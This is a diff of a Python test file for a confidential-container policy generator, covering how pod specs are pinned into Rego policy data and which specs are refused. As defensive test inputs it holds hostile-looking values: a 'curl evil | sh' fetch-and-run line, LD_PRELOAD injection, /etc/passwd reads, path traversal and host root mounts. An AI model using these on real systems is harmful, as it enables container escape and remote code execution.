@@ -1,94 +1,58 @@
-"""The runtime policy: deterministic initdata, its hash, and what the Rego actually allows (evaluated)."""
+"""The runtime policy's data: deterministic initdata, and what generate pins or refuses for a pod spec.
+
+What the Rego then allows and denies, request by request, is tested in test_policy_adversarial.py; here
+each refusal is the pod spec that would otherwise give the host a choice.
+"""
 
 from __future__ import annotations
 
-import copy
+import base64
+import gzip
 import hashlib
+import re
 import tomllib
 from typing import Any
 
 import hobofan_regorus as regorus
 import pytest
-from generate_builders import digest_image, pod_spec
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from contrast.errors import RequestError
-from contrast.generate import inject
+from contrast.generate import inject, kata
 from contrast.generate import policy as pol
-from contrast.generate.images import INITIALIZER_IMAGE
+from contrast.generate.generator import pod_settings
+from contrast.generate.imageconfig import ImageConfig
+from contrast.generate.images import INITIALIZER_IMAGE, normalize
+from contrast.generate.workloads import DNS_LABEL, as_workload, pod_names
+from tests.generate.generate_builders import digest_image, pod_spec
 
-SHARED_DIR = "/run/kata-containers/shared/containers/"
-SHARED = SHARED_DIR + "abc123-hosts"
-EPHEMERAL_DIR = "/run/kata-containers/sandbox/ephemeral/"
-
-
-def mnt(destination: str, source: str, *options: str) -> dict[str, Any]:
-    return {"destination": destination, "source": source, "options": list(options)}
+APP = normalize(digest_image("app"))
 
 
 def build(spec: dict[str, Any] | None = None, **kw: Any) -> pol.Policy:
     return pol.build(spec if spec is not None else pod_spec(), namespace="shop", ref="Pod shop/p", **kw)
 
 
+def container(p: pol.Policy, name: str = "app") -> dict[str, Any]:
+    return next(c for c in p.data["containers"] if c["name"] == name)
+
+
+def with_config(config: ImageConfig, **changes: Any) -> dict[str, Any]:
+    """The default pod, relying on the image config: no command, PATH or workingDir of its own."""
+    spec = pod_spec()
+    c = spec["containers"][0]
+    for key in ("command", "args", "workingDir"):
+        c.pop(key)
+    c["env"] = [e for e in c["env"] if e["name"] != "PATH"]
+    c.update(changes)
+    return spec
+
+
 def rego_text(p: pol.Policy) -> str:
-    doc = tomllib.loads(p.initdata.decode())
-    text = doc["data"][pol.POLICY_KEY]
+    text = tomllib.loads(p.initdata.decode())["data"][pol.POLICY_KEY]
     assert isinstance(text, str)
     return text
-
-
-def engine(p: pol.Policy) -> Any:
-    e = regorus.Engine()
-    e.add_policy("policy.rego", rego_text(p))
-    return e
-
-
-def allowed(e: Any, rule: str, request: dict[str, Any]) -> bool:
-    e.set_input(request)
-    result = e.eval_rule(f"data.agent_policy.{rule}")
-    assert isinstance(result, bool)
-    return result
-
-
-def container_request(**changes: Any) -> dict[str, Any]:
-    """The CreateContainerRequest kata-agent would see for the default pod_spec() container."""
-    req: dict[str, Any] = {
-        "OCI": {
-            "Annotations": {
-                "io.kubernetes.cri.container-type": "container",
-                "io.kubernetes.cri.container-name": "app",
-                "io.kubernetes.cri.image-name": digest_image("app"),
-                "io.kubernetes.cri.sandbox-namespace": "shop",
-            },
-            "Process": {
-                "Args": ["/bin/app", "--port", "8080"],
-                "Env": [
-                    "PATH=/usr/bin:/bin",
-                    "HOSTNAME=p-1",
-                    "MODE=prod",
-                    "KUBERNETES_SERVICE_HOST=10.0.0.1",
-                ],
-                "Cwd": "/",
-            },
-            "Mounts": [
-                {"destination": "/proc", "source": "proc", "options": []},
-                {"destination": "/etc/hosts", "source": SHARED, "options": []},
-                {
-                    "destination": "/cache",
-                    "source": "/run/kata-containers/shared/containers/x-cache",
-                    "options": ["ro"],
-                },
-            ],
-        }
-    }
-    for path, value in changes.items():
-        node = req["OCI"]
-        *parents, last = path.split("__")
-        for p in parents:
-            node = node[p]
-        node[last] = value
-    return req
 
 
 def test_hash_is_sha256_of_initdata_and_annotation_roundtrips() -> None:
@@ -109,143 +73,218 @@ def test_deterministic_and_sensitive() -> None:
     assert build(other).hash_hex != build().hash_hex
 
 
-def test_allows_exactly_the_pod_container() -> None:
-    e = engine(build())
-    assert allowed(e, "CreateContainerRequest", container_request())
+def test_image_config_supplies_argv_env_working_directory_user_and_volumes() -> None:
+    config = ImageConfig(
+        entrypoint=("/usr/bin/app",),
+        cmd=("--serve",),
+        env=("PATH=/opt/bin:/bin", "LANG=C.UTF-8", "HOSTNAME=image", "MODE=image"),
+        user="1000:2000",
+        working_dir="/srv",
+        volumes=("/data",),
+    )
+    c = container(build(with_config(config), images={APP: config}.get))
+    assert c["args"] == ["/usr/bin/app", "--serve"]
+    assert c["env"] == {"LANG": "C.UTF-8", "MODE": "prod", "PATH": "/opt/bin:/bin"}  # the pod's MODE wins
+    assert "HOSTNAME" not in c["env"]
+    assert c["host_env"]["HOSTNAME"]["kind"] == "regex"
+    assert c["cwd"] == "/srv"
+    assert c["user"] == {"additional_gids": [2000], "gid": 2000, "uid": 1000}
+    data = c["mounts"]["/data"]
+    assert data["optional"]
+    assert data["kind"] == "shared"
+    assert data["options"] == ["rbind", "rprivate", "rw"]
 
 
 @pytest.mark.parametrize(
-    ("name", "changes"),
+    ("changes", "argv"),
     [
-        ("other image", {"Annotations__io.kubernetes.cri.image-name": digest_image("evil")}),
-        ("unknown container", {"Annotations__io.kubernetes.cri.container-name": "sidecar"}),
-        ("other namespace", {"Annotations__io.kubernetes.cri.sandbox-namespace": "default"}),
-        ("changed args", {"Process__Args": ["/bin/app", "--port", "8080", "--debug"]}),
-        ("changed env value", {"Process__Env": ["MODE=debug"]}),
-        ("dropped env", {"Process__Env": ["PATH=/bin"]}),
-        ("extra env", {"Process__Env": ["MODE=prod", "LD_PRELOAD=/tmp/x.so"]}),
-        ("duplicate env", {"Process__Env": ["MODE=prod", "MODE=debug"]}),
-        ("missing mount", {"Mounts": [{"destination": "/proc", "source": "proc", "options": []}]}),
-        (
-            "read-only dropped",
-            {
-                "Mounts": [
-                    {
-                        "destination": "/cache",
-                        "source": "/run/kata-containers/shared/containers/c",
-                        "options": [],
-                    }
-                ]
-            },
-        ),
-        (
-            "extra host mount",
-            {
-                "Mounts": [
-                    {
-                        "destination": "/cache",
-                        "source": "/run/kata-containers/shared/containers/c",
-                        "options": ["ro"],
-                    },
-                    {"destination": "/host", "source": "/", "options": []},
-                ]
-            },
-        ),
+        ({"command": ["/bin/other"]}, ["/bin/other"]),  # command drops the image's cmd
+        ({"args": ["--once"]}, ["/usr/bin/app", "--once"]),  # args replace it
+        ({}, ["/usr/bin/app", "--serve"]),
+        ({"command": ["/bin/other"], "args": ["-v"]}, ["/bin/other", "-v"]),
     ],
 )
-def test_denies_any_deviation(name: str, changes: dict[str, Any]) -> None:
-    e = engine(build())
-    assert not allowed(e, "CreateContainerRequest", container_request(**changes)), name
+def test_command_and_args_follow_kubernetes(changes: dict[str, Any], argv: list[str]) -> None:
+    config = ImageConfig(entrypoint=("/usr/bin/app",), cmd=("--serve",))
+    assert container(build(with_config(config, **changes), images={APP: config}.get))["args"] == argv
 
 
-def test_denies_exec_and_host_operations() -> None:
-    e = engine(build())
-    for rule in ("ExecProcessRequest", "ReadStreamRequest", "WriteStreamRequest", "SetPolicyRequest"):
-        assert not allowed(e, rule, {"container_id": "x", "process": {"Args": ["/bin/sh"]}}), rule
-    assert not allowed(e, "CopyFileRequest", {"path": "/etc/passwd"})
-    assert not allowed(e, "CopyFileRequest", {"path": "/run/kata-containers/shared/containers/../../x"})
-    assert allowed(e, "CopyFileRequest", {"path": "/run/kata-containers/shared/containers/abc-resolv.conf"})
-    assert allowed(e, "StartContainerRequest", {"container_id": "x"})
+def test_containerd_path_when_nobody_sets_one() -> None:
+    config = ImageConfig(entrypoint=("/usr/bin/app",))
+    c = container(build(with_config(config), images={APP: config}.get))
+    assert c["env"]["PATH"] == kata.DEFAULT_PATH
+    assert c["cwd"] == "/"
 
 
-def test_sandbox_container_is_pause_only() -> None:
-    e = engine(build())
-    sandbox = {
-        "OCI": {
-            "Annotations": {
-                "io.kubernetes.cri.container-type": "sandbox",
-                "io.kubernetes.cri.sandbox-namespace": "shop",
-            },
-            "Process": {"Args": ["/pause"], "Env": ["PATH=/bin"], "Cwd": "/"},
-            "Mounts": [
-                {"destination": "/dev/shm", "source": "/run/kata-containers/sandbox/shm", "options": []}
-            ],
-        }
-    }
-    assert allowed(e, "CreateContainerRequest", sandbox)
-    evil = copy.deepcopy(sandbox)
-    evil["OCI"]["Process"]["Args"] = ["/bin/sh", "-c", "curl evil | sh"]
-    assert not allowed(e, "CreateContainerRequest", evil)
+def test_host_provided_values_get_the_narrowest_shape() -> None:
+    spec = pod_spec(serviceAccountName="reader")
+    env = spec["containers"][0]["env"]
+    for name, source in [
+        ("IP", {"fieldRef": {"fieldPath": "status.podIP"}}),
+        ("IPS", {"fieldRef": {"fieldPath": "status.podIPs"}}),
+        ("NAME", {"fieldRef": {"fieldPath": "metadata.name"}}),
+        ("NS", {"fieldRef": {"fieldPath": "metadata.namespace"}}),
+        ("SA", {"fieldRef": {"fieldPath": "spec.serviceAccountName"}}),
+        ("UID", {"fieldRef": {"fieldPath": "metadata.uid"}}),
+        ("TIER", {"fieldRef": {"fieldPath": "metadata.labels['tier']"}}),
+        ("OTHER", {"fieldRef": {"fieldPath": "metadata.labels['other']"}}),
+        ("CPU", {"resourceFieldRef": {"resource": "limits.cpu"}}),
+        ("SECRET", {"secretKeyRef": {"name": "s", "key": "k"}}),
+    ]:
+        env.append({"name": name, "valueFrom": source})
+    settings = pol.PodSettings(pod_name_regex="^p-[0-9]+$", labels={"tier": "back.end"})
+    p = build(spec, settings=settings)
+    c = container(p)
+    assert c["env"]["NS"] == "shop"
+    assert c["env"]["SA"] == "reader"
+    host = c["host_env"]
+    assert host["IP"] == {"kind": "ip"}
+    assert host["IPS"] == {"kind": "ips"}
+    assert host["NAME"]["regex"] == "^p-[0-9]+$"
+    assert host["TIER"]["regex"] == r"^back\.end$"
+    assert re.fullmatch(host["UID"]["regex"], "31df313a-931f-4979-a405-cc3f3ccb6a56")
+    assert not re.fullmatch(host["OTHER"]["regex"], "a b")
+    assert re.fullmatch(host["CPU"]["regex"], "2")
+    assert not re.fullmatch(host["CPU"]["regex"], "2; x")
+    assert any("SECRET" in w and "host chooses" in w for w in p.warnings)
 
 
-def test_secrets_mount_must_be_guest_private() -> None:
+@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "LD_LIBRARY_PATH"])
+def test_loader_variables_never_come_from_the_host(name: str) -> None:
     spec = pod_spec()
-    inject.inject(
-        spec,
-        image=INITIALIZER_IMAGE,
-        nats_url="nats://n:4222",
-        coordinator_hashes=["ab" * 32],
-        ref="Pod shop/p",
-    )
-    p = build(spec)
-    e = engine(p)
-    req = container_request()
-    mounts = req["OCI"]["Mounts"]
-    mounts.append(
-        {
-            "destination": "/contrast",
-            "source": "/run/kata-containers/sandbox/ephemeral/contrast-secrets",
-            "options": [],
-        }
-    )
-    assert allowed(e, "CreateContainerRequest", req)
-    # The host re-pointing /contrast at a host-shared directory would expose the secrets: denied.
-    mounts[-1] = {
-        "destination": "/contrast",
-        "source": "/run/kata-containers/shared/containers/leak",
-        "options": [],
+    env = [e for e in spec["containers"][0]["env"] if e["name"] != name]
+    env.append({"name": name, "valueFrom": {"configMapKeyRef": {"name": "c", "key": "k"}}})
+    spec["containers"][0]["env"] = env
+    with pytest.raises(RequestError, match="which programs"):
+        build(spec)
+
+
+def test_an_indexed_job_gets_its_completion_index() -> None:
+    job = {
+        "apiVersion": "batch/v1",
+        "kind": "Job",
+        "metadata": {"name": "task", "namespace": "shop"},
+        "spec": {"completionMode": "Indexed", "template": {"spec": pod_spec()}},
     }
-    assert not allowed(e, "CreateContainerRequest", req)
-    init = [c for c in p.data["containers"] if c["init"]]
-    assert [c["name"] for c in init] == [inject.INITIALIZER_NAME]
-
-
-def test_host_provided_env_pins_only_the_name_and_warns() -> None:
-    spec = pod_spec()
-    spec["containers"][0]["env"].append(
-        {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}
-    )
-    p = build(spec)
-    assert any("POD_IP" in w for w in p.warnings)
-    e = engine(p)
-    env = ["MODE=prod", "POD_IP=10.1.2.3"]
-    assert allowed(e, "CreateContainerRequest", container_request(Process__Env=env))
-    assert not allowed(e, "CreateContainerRequest", container_request(Process__Env=["MODE=prod"]))
+    for indexed in (True, False):
+        if not indexed:
+            del job["spec"]["completionMode"]
+        w = as_workload(job)
+        assert w is not None
+        c = container(pol.build(w.pod_spec, namespace="shop", ref=w.ref, settings=pod_settings(w)))
+        if indexed:
+            assert re.fullmatch(c["host_env"]["JOB_COMPLETION_INDEX"]["regex"], "7")
+        else:
+            assert "JOB_COMPLETION_INDEX" not in c["host_env"]
 
 
 def test_kubernetes_variable_expansion() -> None:
     spec = pod_spec()
     c = spec["containers"][0]
-    c["env"] = [{"name": "PORT", "value": "9000"}, {"name": "ADDR", "value": ":$(PORT)"}]
+    c["env"] += [{"name": "PORT", "value": "9000"}, {"name": "ADDR", "value": ":$(PORT)"}]
     c["args"] = ["--listen", "$(ADDR)", "$$(PORT)", "$(UNKNOWN)"]
-    data = build(spec).data["containers"][0]
+    data = container(build(spec))
     assert data["args"] == ["/bin/app", "--listen", ":9000", "$(PORT)", "$(UNKNOWN)"]
-    assert {e["name"]: e["value"] for e in data["env"]}["ADDR"] == ":9000"
+    assert data["env"]["ADDR"] == ":9000"
     c["env"].append({"name": "IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}})
     c["args"] = ["$(IP)"]
     with pytest.raises(RequestError) as err:
         build(spec)
     assert err.value.code == "request.workload_invalid"
+
+
+def test_security_context_and_kubernetes_defaults() -> None:
+    plain = container(build())
+    assert plain["user"] == {"additional_gids": [0], "gid": 0, "uid": 0}
+    assert plain["capabilities"] == sorted(kata.DEFAULT_CAPS)
+    assert plain["no_new_privileges"] is False
+    assert plain["read_only_root"] is False
+    spec = pod_spec(
+        securityContext={
+            "runAsUser": 7,
+            "fsGroup": 9,
+            "supplementalGroups": [11],
+            "fsGroupChangePolicy": "OnRootMismatch",
+        }
+    )
+    spec["containers"][0]["securityContext"] = {
+        "runAsGroup": 8,
+        "allowPrivilegeEscalation": False,
+        "readOnlyRootFilesystem": True,
+        "capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]},
+    }
+    c = container(build(spec))
+    assert c["user"] == {"additional_gids": [8, 9, 11], "gid": 8, "uid": 7}
+    assert c["capabilities"] == ["NET_BIND_SERVICE"]
+    assert c["no_new_privileges"] is True
+    assert c["read_only_root"] is True
+    mounts = c["mounts"]
+    assert mounts["/etc/hostname"]["options"][-1] == "ro"
+    assert mounts["/etc/hosts"]["options"][-1] == "rw"
+    assert mounts["/cache"]["kind"] == "emptydir"
+    assert mounts["/cache"]["local_options"] == ["mode=0777", "fsgid=9"]
+    assert mounts["/cache"]["fs_group"] == {"change_policy": "OnRootMismatch", "id": 9}
+
+
+def test_volumes_by_kind() -> None:
+    spec = pod_spec()
+    inject.inject(
+        spec, image=INITIALIZER_IMAGE, nats_url="nats://n:4222", coordinator_hashes=["ab" * 32], ref="p"
+    )
+    spec["volumes"] += [
+        {"name": "cfg", "configMap": {"name": "c"}},
+        {"name": "claim", "persistentVolumeClaim": {"claimName": "x"}},
+    ]
+    spec["containers"][0]["volumeMounts"] += [
+        {"name": "cfg", "mountPath": "/etc/cfg"},
+        {"name": "claim", "mountPath": "/var/claim"},
+    ]
+    p = build(spec)
+    mounts = container(p)["mounts"]
+    assert mounts[inject.SECRETS_MOUNT_PATH]["kind"] == "ephemeral"  # guest memory, never host-shared
+    assert mounts["/etc/cfg"]["kind"] == "shared"
+    assert mounts["/etc/cfg"]["options"][-1] == "ro"
+    assert mounts["/var/claim"]["options"][-1] == "rw"
+    assert any("claim" in w for w in p.warnings)
+    assert mounts[kata.SA_TOKEN_PATH]["optional"] is True
+    assert mounts[kata.DEFAULT_TERMINATION_PATH] == {
+        "destination": "/dev/termination-log",
+        "directory": False,
+        "kind": "shared",
+        "name": "termination-log",
+        "optional": False,
+        "options": ["rbind", "rprivate", "rw"],
+        "type": "bind",
+    }
+    # The host may copy the termination log in only as a file, volumes only as directories.
+    assert p.data["copy_file"] == {
+        "directories": ["cfg", "claim", "serviceaccount"],
+        "files": ["hostname", "hosts", "resolv.conf", "termination-log"],
+    }
+
+
+def test_secrets_volume_is_guest_memory_in_the_initializer_too() -> None:
+    spec = pod_spec()
+    inject.inject(
+        spec, image=INITIALIZER_IMAGE, nats_url="nats://n:4222", coordinator_hashes=["ab" * 32], ref="p"
+    )
+    init = container(build(spec), inject.INITIALIZER_NAME)
+    assert init["args"] == [inject.SERVICE_PYTHON, "-m", "contrast.initializer"]
+    assert init["env"]["PATH"] == inject.SERVICE_PATH
+    assert init["cwd"] == inject.SERVICE_WORKDIR
+    assert init["user"]["uid"] == inject.SERVICE_UID
+    assert init["mounts"][inject.SECRETS_MOUNT_PATH]["kind"] == "ephemeral"
+
+
+def _set(path: str, value: Any) -> Any:
+    def mutate(s: dict[str, Any]) -> None:
+        node: Any = s
+        *parents, last = path.split(".")
+        for p in parents:
+            node = node[int(p)] if p.isdigit() else node.setdefault(p, {})
+        node[last] = value
+
+    return mutate
 
 
 INVALID = "request.workload_invalid"
@@ -254,27 +293,104 @@ INVALID = "request.workload_invalid"
 @pytest.mark.parametrize(
     ("mutate", "code"),
     [
-        (lambda s: s["containers"][0].update(image="nginx:latest"), "request.image_not_pinned"),
-        (lambda s: s["containers"][0].update(image="nginx@sha256:abc"), "request.image_not_pinned"),
-        (lambda s: s["containers"][0].pop("command"), "request.command_missing"),
+        (_set("containers.0.image", "nginx:latest"), "request.image_not_pinned"),
+        (_set("containers.0.image", "nginx@sha256:abc"), "request.image_not_pinned"),
+        (_set("containers.0.command", ["python", "-m", "app"]), "request.command_not_absolute"),
+        (lambda s: s["containers"][0].pop("command"), "request.image_config_missing"),
+        (lambda s: s["containers"][0].pop("workingDir"), "request.image_config_missing"),
+        (lambda s: s["containers"][0]["env"].pop(0), "request.image_config_missing"),
+        (_set("containers.0.envFrom", [{"configMapRef": {"name": "x"}}]), INVALID),
+        (_set("hostNetwork", True), INVALID),
+        (_set("hostPID", True), INVALID),
+        (_set("hostIPC", True), INVALID),
+        (_set("hostUsers", False), INVALID),
+        (_set("ephemeralContainers", [{"name": "debug", "image": "busybox"}]), INVALID),
+        (_set("containers.0.securityContext", {"privileged": True}), INVALID),
+        (_set("containers.0.securityContext", {"procMount": "Unmasked"}), INVALID),
+        (_set("containers.0.securityContext", {"capabilities": {"add": ["ALL"]}}), INVALID),
+        (_set("containers.0.securityContext", {"runAsGroup": 5}), INVALID),
+        (_set("containers.0.securityContext", {"runAsNonRoot": True}), INVALID),
+        (_set("containers.0.securityContext", {"seLinuxOptions": {"type": "spc_t"}}), INVALID),
         (
-            lambda s: s["containers"][0].update(envFrom=[{"configMapRef": {"name": "x"}}]),
-            "request.workload_invalid",
+            _set("securityContext", {"seccompProfile": {"type": "Localhost", "localhostProfile": "x"}}),
+            INVALID,
         ),
-        (lambda s: s.update(hostNetwork=True), "request.workload_invalid"),
+        (_set("containers.0.volumeDevices", [{"name": "d", "devicePath": "/dev/xvda"}]), INVALID),
+        (lambda s: s["containers"][0]["volumeMounts"].append({"name": "nope", "mountPath": "/x"}), INVALID),
+        (lambda s: s["containers"][0]["volumeMounts"][0].update(subPath="a"), INVALID),
+        (lambda s: s["containers"][0]["volumeMounts"][0].update(mountPropagation="Bidirectional"), INVALID),
         (
-            lambda s: s["containers"][0]["volumeMounts"].append({"name": "nope", "mountPath": "/x"}),
-            "request.workload_invalid",
+            lambda s: s["containers"][0]["volumeMounts"].append({"name": "cache", "mountPath": "/etc/hosts"}),
+            INVALID,
         ),
-        (lambda s: s["containers"].append(dict(s["containers"][0])), "request.workload_invalid"),
+        (lambda s: s["volumes"].append({"name": "root", "hostPath": {"path": "/"}}), None),
+        (lambda s: s["containers"].append(dict(s["containers"][0])), INVALID),
+        (lambda s: s.update(volumes=[{"name": "cache", "emptyDir": {"medium": "HugePages"}}]), INVALID),
     ],
 )
-def test_refusals(mutate: Any, code: str) -> None:
+def test_refusals(mutate: Any, code: str | None) -> None:
     spec = pod_spec()
     mutate(spec)
+    if code is None:  # an unsupported volume is refused once something mounts it
+        spec["containers"][0]["volumeMounts"].append({"name": "root", "mountPath": "/host"})
+        code = INVALID
     with pytest.raises(RequestError) as e:
         build(spec)
     assert e.value.code == code
+
+
+def test_image_user_by_name_needs_run_as_user() -> None:
+    config = ImageConfig(entrypoint=("/app",), user="app")
+    spec = with_config(config)
+    with pytest.raises(RequestError) as e:
+        build(spec, images={APP: config}.get)
+    assert e.value.code == "request.user_not_numeric"
+    spec["containers"][0]["securityContext"] = {"runAsUser": 1000, "runAsGroup": 1000}
+    assert container(build(spec, images={APP: config}.get))["user"]["uid"] == 1000
+
+
+@pytest.mark.parametrize(
+    ("command", "volume_path"),
+    [
+        (["/scripts/run.sh"], "/scripts"),  # the program itself comes from the host
+        (["/bin/app"], "/usr/bin"),  # a directory on PATH does
+        (["/bin/app"], "/usr"),
+    ],
+)
+def test_host_supplied_code_is_refused(command: list[str], volume_path: str) -> None:
+    spec = pod_spec(
+        volumes=[{"name": "cache", "emptyDir": {}}, {"name": "cm", "configMap": {"name": "scripts"}}]
+    )
+    spec["containers"][0]["command"] = command
+    spec["containers"][0]["volumeMounts"].append({"name": "cm", "mountPath": volume_path})
+    with pytest.raises(RequestError) as e:
+        build(spec)
+    assert e.value.code == "request.host_code"
+
+
+def test_guest_private_volumes_may_sit_on_path() -> None:
+    spec = pod_spec()
+    spec["containers"][0]["volumeMounts"][0]["mountPath"] = "/usr/bin"  # an emptyDir: guest memory, empty
+    assert container(build(spec))["env"]["PATH"] == "/usr/bin:/bin"
+
+
+def test_file_and_directory_names_must_differ() -> None:
+    spec = pod_spec(volumes=[{"name": "cache", "emptyDir": {}}, {"name": "cm", "configMap": {"name": "x"}}])
+    spec["containers"][0]["volumeMounts"].append({"name": "cm", "mountPath": "/etc/app/termination-log"})
+    with pytest.raises(RequestError, match="file and a directory"):
+        build(spec)
+
+
+def test_exec_commands_are_exact_and_absolute() -> None:
+    p = build(settings=pol.PodSettings(exec_commands={"app": [["/bin/app", "--health"]]}))
+    assert container(p)["exec"] == [["/bin/app", "--health"]]
+    with pytest.raises(RequestError):
+        build(settings=pol.PodSettings(exec_commands={"app": [["app"]]}))
+    with pytest.raises(RequestError, match="does not have"):
+        build(settings=pol.PodSettings(exec_commands={"ghost": [["/bin/true"]]}))
+    spec = pod_spec()
+    spec["containers"][0]["livenessProbe"] = {"exec": {"command": ["/bin/true"]}}
+    assert any("exec livenessProbe" in w for w in build(spec).warnings)
 
 
 def test_mutable_images_only_with_override_and_loudly() -> None:
@@ -282,6 +398,49 @@ def test_mutable_images_only_with_override_and_loudly() -> None:
     spec["containers"][0]["image"] = "nginx:latest"
     p = build(spec, allow_mutable_images=True)
     assert any("MUTABLE" in w for w in p.warnings)
+    assert container(p)["image"] == "docker.io/library/nginx:latest"
+
+
+@pytest.mark.parametrize(
+    ("image", "normalized"),
+    [
+        ("nginx@sha256:" + "a" * 64, "docker.io/library/nginx@sha256:" + "a" * 64),
+        ("org/app:1@sha256:" + "a" * 64, "docker.io/org/app@sha256:" + "a" * 64),
+        ("ghcr.io/org/app@sha256:" + "a" * 64, "ghcr.io/org/app@sha256:" + "a" * 64),
+        ("localhost/app@sha256:" + "a" * 64, "localhost/app@sha256:" + "a" * 64),
+        ("registry:5000/app@sha256:" + "a" * 64, "registry:5000/app@sha256:" + "a" * 64),
+    ],
+)
+def test_policy_names_images_as_the_runtime_reports_them(image: str, normalized: str) -> None:
+    spec = pod_spec()
+    spec["containers"][0]["image"] = image
+    assert container(build(spec))["image"] == normalized
+
+
+@pytest.mark.parametrize(
+    ("kind", "name", "pod", "other"),
+    [
+        ("Deployment", "web", "web-6b9d5c7f4d-x7kzq", "web-6b9d5c7f4d-x7kz"),
+        ("StatefulSet", "db", "db-2", "db-x"),
+        ("Pod", "one", "one", "one-1"),
+        ("DaemonSet", "agent", "agent-bcd45", "agent-1"),
+        ("Job", "task", "task-3-bcd45", "task--bcd45"),
+        ("CronJob", "nightly", "nightly-28475920-bcd45", "nightly-bcd45"),
+    ],
+)
+def test_pod_names_follow_the_controllers(kind: str, name: str, pod: str, other: str) -> None:
+    names = pod_names(kind, name)
+    assert re.fullmatch(names.regex.strip("^$"), pod)
+    assert not re.fullmatch(names.regex.strip("^$"), other)
+    assert names.hostname_regex(None) == names.regex
+    assert names.hostname_regex("fixed") == "^fixed$"
+
+
+def test_long_names_fall_back_to_a_prefix_or_any_label() -> None:
+    names = pod_names("Deployment", "x" * 60)
+    assert names.max_len <= 63 + 5
+    assert re.fullmatch(names.regex.strip("^$"), "x" * 58 + "bcdfg")
+    assert names.hostname_regex(None) == DNS_LABEL or names.max_len <= 63
 
 
 @settings(max_examples=150, deadline=None)
@@ -295,44 +454,16 @@ def test_toml_string_roundtrips_anything(s: str) -> None:
 @given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40))
 def test_any_env_value_gives_valid_initdata(value: str) -> None:
     spec = pod_spec()
-    spec["containers"][0]["env"] = [{"name": "V", "value": value.replace("\x00", "")}]
+    spec["containers"][0]["env"].append({"name": "V", "value": value.replace("\x00", "")})
     p = build(spec)
-    text = rego_text(p)
     e = regorus.Engine()
-    e.add_policy("policy.rego", text)
+    e.add_policy("policy.rego", rego_text(p))
     assert e.eval_rule("data.agent_policy.ExecProcessRequest") is False
 
 
 def test_decode_annotation_bounds() -> None:
-    import base64
-    import gzip
-
     bomb = base64.b64encode(gzip.compress(b"\0" * (5 * 1024 * 1024), mtime=0)).decode()
     with pytest.raises(RequestError):
         pol.decode_annotation(bomb)
     with pytest.raises(RequestError):
         pol.decode_annotation("not base64!")
-
-
-@pytest.mark.parametrize(
-    ("image", "normalized"),
-    [
-        ("nginx@sha256:" + "a" * 64, "docker.io/library/nginx@sha256:" + "a" * 64),
-        ("org/app:1@sha256:" + "a" * 64, "docker.io/org/app:1@sha256:" + "a" * 64),
-        ("ghcr.io/org/app@sha256:" + "a" * 64, "ghcr.io/org/app@sha256:" + "a" * 64),
-        ("localhost/app@sha256:" + "a" * 64, "localhost/app@sha256:" + "a" * 64),
-        ("registry:5000/app@sha256:" + "a" * 64, "registry:5000/app@sha256:" + "a" * 64),
-    ],
-)
-def test_policy_names_images_as_the_runtime_reports_them(image: str, normalized: str) -> None:
-    spec = pod_spec()
-    spec["containers"][0]["image"] = image
-    assert build(spec).data["containers"][0]["image"] == normalized
-
-
-def test_shared_directory_names_cannot_climb() -> None:
-    e = engine(build())
-    for path in ("..", ".", "../x", "a/b"):
-        assert not allowed(e, "CopyFileRequest", {"path": SHARED_DIR + path}), path
-    mounts = [mnt("/cache", SHARED_DIR + "..", "ro")]
-    assert not allowed(e, "CreateContainerRequest", container_request(Mounts=mounts))
